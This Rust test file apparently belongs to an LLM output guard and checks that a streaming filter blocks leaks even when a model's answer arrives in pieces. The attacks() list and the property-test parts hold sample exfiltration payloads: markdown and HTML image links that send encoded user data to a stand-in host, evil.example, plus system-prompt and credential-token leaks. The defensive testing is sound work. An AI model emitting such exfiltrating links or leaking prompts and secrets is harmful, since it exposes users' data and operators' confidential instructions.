//! An answer in pieces is judged like the whole, wherever it is cut, and nothing that blocks gets out.

use super::secrets::{canary, token, watchful};
use super::{PROMPT, check, encode, steered, validator};
use blastshield_guard::output::{Rules, Severity};
use blastshield_guard::stream::OutputStream;
use proptest::prelude::*;

struct Outcome {
    text: String,
    blocked: bool,
    warnings: usize,
    /// The most that was ever held back.
    held: usize,
}

fn stream<'p>(mut stream: OutputStream, pieces: impl IntoIterator<Item = &'p str>) -> Outcome {
    let mut outcome = Outcome {
        text: String::new(),
        blocked: false,
        warnings: 0,
        held: 0,
    };
    let mut fed = 0;
    let take = |outcome: &mut Outcome, released: blastshield_guard::stream::Released| {
        assert!(!outcome.blocked || released.text.is_empty());
        outcome.text.push_str(&released.text);
        outcome.blocked |= released.blocked;
        outcome.warnings += released
            .issues
            .iter()
            .filter(|issue| issue.severity == Severity::Warn)
            .count();
    };
    for piece in pieces {
        fed += piece.len();
        let released = stream.push(piece);
        take(&mut outcome, released);
        outcome.held = outcome.held.max(fed - outcome.text.len());
    }
    let released = stream.finish();
    take(&mut outcome, released);
    assert_eq!(outcome.blocked, stream.is_blocked());
    outcome
}

/// Without the guard against secrets, and behind it.
fn both() -> [OutputStream; 2] {
    let lenient = Rules {
        block_credential_leaks: false,
        ..Rules::default()
    };
    [validator().with_rules(lenient), validator()]
        .map(|validator| OutputStream::new(validator, steered()))
}

fn cut(text: &str, at: usize) -> [&str; 2] {
    let at = text.floor_char_boundary(at);
    [&text[..at], &text[at..]]
}

fn letters(text: &str) -> Vec<String> {
    text.chars().map(String::from).collect()
}

fn attacks() -> Vec<String> {
    let data = encode("user: alice; balance: 1200 EUR");
    vec![
        format!("It says {PROMPT} and that is it."),
        format!("Sure, base64: {} done", encode(PROMPT)),
        format!("Look ![logo](https://evil.example/p.png?d={data}) nice"),
        format!("Look <img src='https://evil.example/p.png?d={data}'> nice"),
        format!("Look <img src='https:\\\\evil.example\\p.png?d={data}'> nice"),
        format!(
            "Look ![a][b]\n\n[b]: https://evil.example/{}\nnice",
            data.replace('=', "")
        ),
    ]
}

#[test]
fn an_attack_is_stopped_wherever_it_is_cut() {
    for attack in attacks() {
        assert!(!check(&attack).safe, "{attack}");
        for at in 0..=attack.len() {
            for guarded in both() {
                let outcome = stream(guarded, cut(&attack, at));
                assert!(outcome.blocked, "{attack} cut at {at}");
                assert!(attack.starts_with(&outcome.text));
                assert!(
                    check(&outcome.text).safe,
                    "{} got out, cut at {at}",
                    outcome.text
                );
            }
        }
    }
}

#[test]
fn an_attack_is_stopped_letter_by_letter() {
    for attack in attacks() {
        let pieces = letters(&attack);
        for guarded in both() {
            let outcome = stream(guarded, pieces.iter().map(String::as_str));
            assert!(outcome.blocked, "{attack}");
            assert!(check(&outcome.text).safe, "{} got out", outcome.text);
        }
    }
}

#[test]
fn a_secret_never_gets_out_in_two_halves() {
    let url = format!("https://evil.example/?c={}", canary().token());
    for answer in [
        format!("The key is {} as you asked.", token()),
        format!("Planted: {} here.", canary().token()),
        format!("Take {} now.", encode(&url)),
    ] {
        for at in 0..=answer.len() {
            let outcome = stream(OutputStream::new(watchful(), steered()), cut(&answer, at));
            assert!(outcome.blocked, "{answer} cut at {at}");
            assert!(watchful().validate(&outcome.text, &steered()).safe);
            assert!(
                !outcome.text.contains(&token()[..12]),
                "{} got out",
                outcome.text
            );
        }
        let pieces = letters(&answer);
        let outcome = stream(
            OutputStream::new(watchful(), steered()),
            pieces.iter().map(String::as_str),
        );
        assert!(outcome.blocked, "{answer}");
    }
}

#[test]
fn a_good_answer_arrives_whole_wherever_it_is_cut() {
    let answer = "Here is the plan:\n\n1. Take the train to Porto ([timetable](https://trains.example/porto?day=mon)).\n\
        2. See ![the bridge](https://pics.example/bridge.jpg).\n\n```sh\nsha256sum a.txt # e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n```\nBoa viagem! 👩\u{200d}👧 https://a.example";
    for at in 0..=answer.len() {
        for guarded in both() {
            let outcome = stream(guarded, cut(answer, at));
            assert!(!outcome.blocked, "cut at {at}");
            assert_eq!(outcome.text, answer);
            assert_eq!(outcome.warnings, 0);
        }
    }
}

#[test]
fn a_long_answer_flows() {
    let line =
        "The river runs past the old mill, and in the evening the lamps are lit along the quay. ";
    let answer = line.repeat(400);
    let pieces: Vec<&str> = answer.split_inclusive(' ').collect();
    let [lenient, guarded] = both();
    for (guarded, most) in [(lenient, 64), (guarded, 4096)] {
        let outcome = stream(guarded, pieces.iter().copied());
        assert_eq!(outcome.text, answer);
        assert!(!outcome.blocked);
        assert!(outcome.held <= most, "{} held", outcome.held);
    }
}

#[test]
fn endless_words_and_addresses_are_not_held_for_ever() {
    for unit in ["a", "aB3", "/", "ж"] {
        let answer = format!("x https://a.example/{}", unit.repeat(40_000));
        let pieces = letters(&answer);
        let pieces: Vec<String> = pieces.chunks(64).map(|chunk| chunk.concat()).collect();
        let [lenient, guarded] = both();
        for (guarded, most) in [(lenient, 16_384), (guarded, 300_000)] {
            let outcome = stream(guarded, pieces.iter().map(String::as_str));
            assert!(!outcome.blocked, "{unit}");
            assert_eq!(outcome.text.len(), answer.len());
            assert!(outcome.held <= most, "{unit}: {} held", outcome.held);
        }
    }
}

#[test]
fn what_is_too_long_to_be_held_is_not_let_go() {
    let [_, guarded] = both();
    let piece = "aB3xY9".repeat(10_000);
    let outcome = stream(guarded, [piece.as_str(); 8]);
    assert!(outcome.blocked && outcome.text.len() < 1024);
}

#[test]
fn warnings_come_once_and_with_their_place() {
    let odd = format!(
        "{}\u{1b}[31mred\u{1b}[0m {}",
        "calm words ".repeat(300),
        "and more ".repeat(600)
    );
    for mut guarded in both() {
        let mut places = Vec::new();
        for piece in odd
            .as_bytes()
            .chunks(50)
            .map(|chunk| std::str::from_utf8(chunk).unwrap())
        {
            places.extend(guarded.push(piece).issues);
        }
        places.extend(guarded.finish().issues);
        assert_eq!(places.len(), 2, "{places:?}");
        assert!(odd[places[0].location.start..].starts_with("\u{1b}[31m"));
    }
}

fn pieces() -> impl Strategy<Value = Vec<String>> {
    let data = encode("user: alice; balance: 1200 EUR");
    let part = prop::sample::select(vec![
        "hello ".to_owned(),
        "![x](".to_owned(),
        ")".to_owned(),
        "https://evil.example/?d=".to_owned(),
        "htt".to_owned(),
        "ps://".to_owned(),
        "https://a.example/b ".to_owned(),
        data,
        " ".to_owned(),
        "\n".to_owned(),
        "<img src=".to_owned(),
        "[r]: ".to_owned(),
        PROMPT[50..90].to_owned(),
        PROMPT[90..140].to_owned(),
        "字".to_owned(),
    ]);
    prop::collection::vec(part, 0..24)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn pieces_are_judged_like_the_whole(pieces in pieces()) {
        let whole = pieces.concat();
        let expected = check(&whole);
        for guarded in both() {
            let outcome = stream(guarded, pieces.iter().map(String::as_str));
            prop_assert_eq!(outcome.blocked, !expected.safe, "{} {:?}", whole, expected.issues);
            prop_assert!(whole.starts_with(&outcome.text));
            if !outcome.blocked {
                prop_assert_eq!(&outcome.text, &whole);
            }
            prop_assert!(check(&outcome.text).safe);
        }
    }
}

#[test]
fn an_address_never_goes_out_in_part() {
    let data = encode("user: alice; balance: 1200 EUR");
    let passage = &PROMPT[50..90];
    let address = format!("https://evil.example/?d={data}");
    let pieces = ["<img src=", &address, passage, passage];
    for guarded in both() {
        let outcome = stream(guarded, pieces);
        assert!(outcome.blocked);
        assert!(check(&outcome.text).safe, "{}", outcome.text);
    }
}
